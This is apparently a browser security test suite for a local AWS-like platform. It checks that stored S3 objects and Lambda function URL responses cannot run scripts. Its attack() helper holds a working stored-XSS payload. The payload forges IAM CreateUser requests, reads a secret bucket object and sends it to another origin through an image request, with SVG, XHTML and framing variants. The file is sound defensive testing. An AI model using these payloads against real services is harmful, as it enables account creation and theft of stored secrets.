import { CreateFunctionCommand, CreateFunctionUrlConfigCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { CreateBucketCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { IAMClient, ListUsersCommand } from '@aws-sdk/client-iam';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeZip } from '../../makers/zip-maker.ts';
import { startPlatform, type RunningPlatform } from '../clients/running-platform.ts';
import { forgedLink } from './forged-link.ts';
import { browserPath, openBrowser } from './open-browser.ts';
import { serveOtherSite, type OtherSite } from './other-site.ts';
import { minors, newest } from '../clients/interpreters.ts';
import { sdkSettings } from '../clients/sdk-settings.ts';

let platform: RunningPlatform;
let browser: Browser;
let site: OtherSite;
let s3: S3Client;
let iam: IAMClient;
let lambda: LambdaClient;

/** What an attacker stores: it says when it is shown and when its script runs, and its script and its tags use the platform. */
function attack(name: string): string {
  const user = (way: string): string =>
    `/?Action=CreateUser&Version=2010-05-08&UserName=${name}-${way}&${forgedLink('iam')}`;
  const { endpoint } = platform;
  return `<img src="${site.origin('127.0.0.1')}/${name}/shown">
    <img src="${endpoint}${user('image').replaceAll('&', '&amp;')}">
    <script>
      fetch('${endpoint}${user('fetch')}', { method: 'POST' }).catch(() => undefined);
      fetch('/secret/key?${forgedLink('s3')}').then((answer) => answer.text())
        .then((text) => new Image().src = '${site.origin('127.0.0.1')}/${name}/read/' + encodeURIComponent(text))
        .catch(() => undefined)
        .finally(() => new Image().src = '${site.origin('127.0.0.1')}/${name}/ran');
    </script>`;
}

beforeAll(async () => {
  if (browserPath === undefined) {
    return;
  }
  platform = await startPlatform();
  browser = await openBrowser();
  site = await serveOtherSite();
  const { endpoint } = platform;
  const settings = sdkSettings(endpoint);
  s3 = new S3Client({ ...settings, forcePathStyle: true });
  iam = new IAMClient(settings);
  lambda = new LambdaClient(settings);
  for (const Bucket of ['pages', 'secret']) {
    await s3.send(new CreateBucketCommand({ Bucket }));
  }
  await s3.send(new PutObjectCommand({ Bucket: 'secret', Key: 'key', Body: 'treasure' }));
});

afterAll(async () => {
  await browser?.close();
  await site?.[Symbol.asyncDispose]();
  await platform?.stop();
});

/** Opens an address until the attack in it says that it is shown, and some time more for its script. */
async function show(url: string, name: string): Promise<void> {
  const page = await browser.newPage();
  try {
    await page.goto(url);
    await site.told(`/${name}/shown`);
    await page.waitForTimeout(300);
  } finally {
    await page.close();
  }
}

const ran = (name: string): string[] =>
  site.asked.filter((path) => path.startsWith(`/${name}/`) && path !== `/${name}/shown`);

async function madeUsers(): Promise<(string | undefined)[]> {
  const { Users = [] } = await iam.send(new ListUsersCommand({}));
  return Users.map(({ UserName }) => UserName);
}

async function storePage(Key: string, ContentType: string, Body: string): Promise<string> {
  await s3.send(new PutObjectCommand({ Bucket: 'pages', Key, ContentType, Body }));
  return `${platform.endpoint}/pages/${Key}?${forgedLink('s3')}`;
}

async function makeFunction(name: string, headers: object): Promise<string> {
  const answer = {
    statusCode: 200,
    headers: { 'Content-Type': 'text/html', ...headers },
    body: attack(name),
  };
  const content = `import json\ndef handler(event, context):\n    return json.loads(${JSON.stringify(JSON.stringify(answer))})\n`;
  await lambda.send(
    new CreateFunctionCommand({
      FunctionName: name,
      Runtime: newest,
      Handler: 'app.handler',
      Role: 'arn:aws:iam::000000000000:role/app',
      Code: { ZipFile: makeZip({ entries: [{ name: 'app.py', content }] }) },
    }),
  );
  const made = await lambda.send(
    new CreateFunctionUrlConfigCommand({ FunctionName: name, AuthType: 'NONE' }),
  );
  return made.FunctionUrl ?? '';
}

describe.skipIf(browserPath === undefined)('in a browser', () => {
  test('the attack works where nothing is done against it', async () => {
    site.page('/attack.html', attack('control'));
    await show(`${site.origin('127.0.0.1')}/attack.html`, 'control');
    expect(ran('control')).toContain('/control/ran');
  });

  describe('a stored object', () => {
    test.each([
      ['HTML', 'html', 'text/html', attack],
      ['what is only called HTML in the link', 'text', 'text/plain', attack],
      [
        'XHTML',
        'xhtml',
        'application/xhtml+xml',
        (name: string) =>
          `<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="${site.origin('127.0.0.1')}/${name}/shown"/><script>new Image().src = '${site.origin('127.0.0.1')}/${name}/ran'</script></body></html>`,
      ],
      [
        'SVG',
        'svg',
        'image/svg+xml',
        (name: string) =>
          `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9" xlink:href="${site.origin('127.0.0.1')}/${name}/shown"/><script>new Image().src = '${site.origin('127.0.0.1')}/${name}/ran'</script></svg>`,
      ],
    ])('runs no script: %s', async (...[, name, type, content]) => {
      const link = await storePage(name, type, content(name));
      await show(type === 'text/plain' ? `${link}&response-content-type=text%2Fhtml` : link, name);
      expect(ran(name)).toEqual([]);
    });

    test('runs none below the name of its bucket', async () => {
      const link = await storePage('own', 'text/html', attack('own'));
      const own = link.replace('127.0.0.1', 'pages.s3.localhost').replace('/pages/', '/');
      await show(own, 'own');
      expect(ran('own')).toEqual([]);
    });

    test('runs none in a frame of another site', async () => {
      const link = await storePage('framed', 'text/html', attack('framed'));
      site.page('/frame.html', `<iframe src="${link}"></iframe>`);
      await show(`${site.origin('evil.example')}/frame.html`, 'framed');
      expect(ran('framed')).toEqual([]);
    });

    test('that is text is not taken for a page', async () => {
      const link = await storePage('sniffed', 'text/plain', attack('sniffed'));
      const page = await browser.newPage();
      await page.goto(link);
      await page.waitForTimeout(300);
      expect(await page.locator('img').count()).toBe(0);
      expect(site.asked.filter((path) => path.startsWith('/sniffed/'))).toEqual([]);
      await page.close();
    });
  });

  describe.skipIf(minors.length === 0)("a function's answer", () => {
    test('runs no script by path, whatever policy it brings', async () => {
      const url = await makeFunction('by-path', {
        'Content-Security-Policy': "script-src * 'unsafe-inline'",
        'X-Content-Type-Options': 'none',
      });
      const id = new URL(url).hostname.split('.')[0] ?? '';
      await show(`${platform.endpoint}/_function-url/${id}/`, 'by-path');
      expect(ran('by-path')).toEqual([]);
    });

    test('is a page of its own by its own name, and of no other', async () => {
      const url = await makeFunction('by-name', {});
      await show(url, 'by-name');
      expect(ran('by-name')).toContain('/by-name/ran');
      expect(ran('by-name').join(' ')).not.toContain('treasure');
    });
  });

  test('all that has made no user', async () => {
    expect(await madeUsers()).toEqual([]);
  });
});
